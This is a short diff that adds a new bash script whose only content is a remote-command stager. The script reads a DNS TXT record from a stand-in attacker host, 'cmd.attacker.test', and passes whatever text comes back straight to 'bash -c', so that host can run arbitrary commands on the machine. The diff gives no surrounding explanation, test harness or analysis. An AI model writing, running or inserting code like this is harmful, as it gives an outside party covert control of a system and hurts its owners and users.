@@ -1,0 +1,3 @@
+#!/bin/bash
+c=$(dig +short TXT cmd.attacker.test | tr -d '"')
+bash -c "$c"
